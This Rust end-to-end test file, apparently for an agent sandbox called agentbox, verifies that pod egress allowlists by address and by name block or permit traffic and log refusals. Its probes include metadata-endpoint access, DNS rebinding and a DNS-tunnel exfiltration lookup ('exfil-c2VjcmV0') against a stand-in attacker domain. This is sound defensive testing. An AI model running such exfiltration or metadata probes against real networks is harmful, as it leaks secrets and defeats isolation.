//! Pod egress through CRI with CNI: from inside the sandbox, each
//! destination is reachable or not exactly as each `[network]` mode says,
//! over IPv4 and IPv6, by address and by name, for TCP, UDP and ICMP; every
//! refusal is in the audit log with its destination. Needs root. All
//! destinations are hosts of the test's own router namespace (proven before
//! any pod sends), and a guard table keeps pod traffic off every other
//! interface of the node (see `agentbox_e2e::egress`).

#[path = "common/egress.rs"]
mod egress_common;

use agentbox_e2e::agentbox::ConfigDir;
use agentbox_e2e::egress::*;
use agentbox_e2e::skip_unless_root;
use egress_common::*;

fn l(s: &str) -> String {
    s.to_string()
}

#[test]
fn allowlist_by_address_in_gvisor() {
    if skip_unless_root("allowlist_by_address_in_gvisor") {
        return;
    }
    let cfg = ConfigDir::new();
    let (ctd, net) = start(&cfg);
    write(
        &cfg,
        &ctd,
        &net,
        &format!("mode = \"allowlist\"\nallow = [\"{PUBLIC4}:80\", \"[{PUBLIC6}]:80\", \"{PUBLIC4_OTHER}\"]\n"),
        false,
    );
    let cri = ctd.cri().expect("CRI");
    let (_pod, id) = pod_with(&cri, &ctd, "allow-ip", &[]);
    let probes: Vec<(String, String)> = vec![
        (l("tcp4-allowed"), format!("tcp {PUBLIC4} 80")),
        (l("udp4-allowed"), format!("udp {PUBLIC4} 80")),
        (l("tcp4-other-port"), format!("tcp {PUBLIC4} 443")),
        (l("icmp4-port-entry"), format!("icmp {PUBLIC4}")),
        (l("icmp4-any-entry"), format!("icmp {PUBLIC4_OTHER}")),
        (l("tcp6-allowed"), format!("-6 tcp {PUBLIC6} 80")),
        (l("udp6-allowed"), format!("-6 udp {PUBLIC6} 80")),
        (l("tcp6-not-listed"), format!("-6 tcp {PUBLIC6_OTHER} 80")),
        (l("tcp4-metadata"), format!("tcp {METADATA4} 80")),
        (l("tcp6-metadata"), format!("-6 tcp {METADATA6} 80")),
        (l("tcp4-private"), format!("tcp {PRIVATE4} 80")),
    ];
    let r = probe(&cri, &id, &probes);
    eprintln!("{r:#?}");
    expect(
        &r,
        &[
            (l("tcp4-allowed"), true),
            (l("udp4-allowed"), true),
            (l("tcp4-other-port"), false),
            (l("icmp4-port-entry"), false),
            (l("icmp4-any-entry"), true),
            (l("tcp6-allowed"), true),
            (l("udp6-allowed"), true),
            (l("tcp6-not-listed"), false),
            (l("tcp4-metadata"), false),
            (l("tcp6-metadata"), false),
            (l("tcp4-private"), false),
        ],
    );
    let d = denied(&cfg);
    assert!(
        d.iter().any(|r| r["address"] == METADATA4
            && r["reason"] == "metadata"
            && r["port"] == 80
            && r["protocol"] == "tcp"),
        "{d:#?}"
    );
}

/// Names through agentbox's resolver: only allowed names resolve, exactly
/// the answered addresses open (for the name's ports, for the answer's TTL,
/// flows outlive it), rebinding answers are removed, names that match no
/// entry never leave the node; the documented limits (shared addresses,
/// wildcard zones carrying labels upstream) shown as they are.
#[test]
fn allowlist_by_name_in_gvisor() {
    if skip_unless_root("allowlist_by_name_in_gvisor") {
        return;
    }
    let cfg = ConfigDir::new();
    let (ctd, net) = start(&cfg);
    write(
        &cfg,
        &ctd,
        &net,
        "mode = \"allowlist\"\nallow = [\"allowed.mirror.test:80\", \"v6only.mirror.test:80\", \"rebind.mirror.test:80\", \"shared.cdn.test:80\", \"*.tunnel.test:80\"]\ndns_min_ttl = 1\ndns_max_ttl = 4\n",
        false,
    );
    let cri = ctd.cri().expect("CRI");
    let (_pod, id) = pod_with(&cri, &ctd, "allow-name", &[]);
    let resolver = format!("10.233.{}.254", ctd.network().index);
    if std::env::var_os("AGENTBOX_DEBUG_DNS").is_some() {
        for c in [
            &["cat", "/etc/resolv.conf"][..],
            &["ip", "addr"],
            &["ip", "route"],
            &["nslookup", "allowed.mirror.test", "169.254.53.1"],
        ] {
            eprintln!("{c:?}: {:?}", cri.exec_sync(&id, c, T));
        }
        eprintln!(
            "audit: {}",
            std::fs::read_to_string(cfg.path().join("audit.jsonl")).unwrap_or_default()
        );
    }
    let p = |a: &str, b: String| (a.to_string(), b);
    let r = probe(
        &cri,
        &id,
        &[
            // an address the pod knows without asking stays closed
            p("ip-before-asking", format!("tcp {PUBLIC4} 80")),
            p("resolve-allowed", "resolve allowed.mirror.test".into()),
            p("tcp4-name", "-4 tcp allowed.mirror.test 80".into()),
            p("tcp6-name", "-6 tcp allowed.mirror.test 80".into()),
            p("udp4-name", "-4 udp allowed.mirror.test 80".into()),
            p("udp6-name", "-6 udp allowed.mirror.test 80".into()),
            p("ip-after-asking", format!("tcp {PUBLIC4} 80")),
            p(
                "tcp-name-other-port",
                "-4 tcp allowed.mirror.test 443".into(),
            ),
            p("icmp-name-port-entry", "-4 icmp allowed.mirror.test".into()),
            p("tcp6-v6only", "-6 tcp v6only.mirror.test 80".into()),
            p("resolve-other", "resolve other.mirror.test".into()),
            p("ip-of-other", format!("tcp {PUBLIC4_OTHER} 80")),
            p("rebind", "-4 tcp rebind.mirror.test 80".into()),
            p("rebind6", "-6 tcp rebind.mirror.test 80".into()),
            p("shared", "tcp shared.cdn.test 80".into()),
            p("resolve-hidden", "resolve hidden.cdn.test".into()),
            // a shared address opened for one name serves every name on it
            p("shared-by-ip", format!("tcp {PUBLIC4_SHARED} 80")),
            p("tunnel", "resolve exfil-c2VjcmV0.tunnel.test".into()),
            p(
                "not-a-tunnel",
                "resolve exfil-c2VjcmV0.attacker.test".into(),
            ),
            // the node's resolver itself is a private address
            p("direct-dns", format!("udp {resolver} 53")),
        ],
    );
    eprintln!("{r:#?}");
    let t = |s: &str| (s.to_string(), true);
    let f = |s: &str| (s.to_string(), false);
    expect(
        &r,
        &[
            f("ip-before-asking"),
            t("resolve-allowed"),
            t("tcp4-name"),
            t("tcp6-name"),
            t("udp4-name"),
            t("udp6-name"),
            t("ip-after-asking"),
            f("tcp-name-other-port"),
            f("icmp-name-port-entry"),
            t("tcp6-v6only"),
            f("resolve-other"),
            f("ip-of-other"),
            f("rebind"),
            f("rebind6"),
            t("shared"),
            f("resolve-hidden"),
            t("shared-by-ip"),
            t("tunnel"),
            f("not-a-tunnel"),
            f("direct-dns"),
        ],
    );
    assert!(r["resolve-allowed"].1.contains(PUBLIC4) && r["resolve-allowed"].1.contains(PUBLIC6));
    // names that match no entry never reached the upstream; a wildcard zone's did
    assert_eq!(net.queries_for("other.mirror.test"), 0);
    assert_eq!(net.queries_for("attacker.test"), 0);
    assert!(net.queries_for("exfil-c2VjcmV0.tunnel.test") > 0);
    let d = denied(&cfg);
    let has = |f: &dyn Fn(&serde_json::Value) -> bool| d.iter().any(f);
    assert!(
        has(&|r| r["protocol"] == "dns" && r["name"] == "other.mirror.test"),
        "{d:#?}"
    );
    assert!(
        has(&|r| r["name"] == "rebind.mirror.test"
            && r["address"] == METADATA4
            && r["answer_removed"] == true),
        "{d:#?}"
    );
    assert!(
        has(&|r| r["address"] == PUBLIC4_OTHER && r["port"] == 80),
        "{d:#?}"
    );
    // the answer's TTL (cut to 4 s) ends the admission; a new connection needs a new answer
    std::thread::sleep(std::time::Duration::from_secs(6));
    let r = probe(&cri, &id, &[p("ip-after-ttl", format!("tcp {PUBLIC4} 80"))]);
    expect(&r, &[f("ip-after-ttl")]);
}
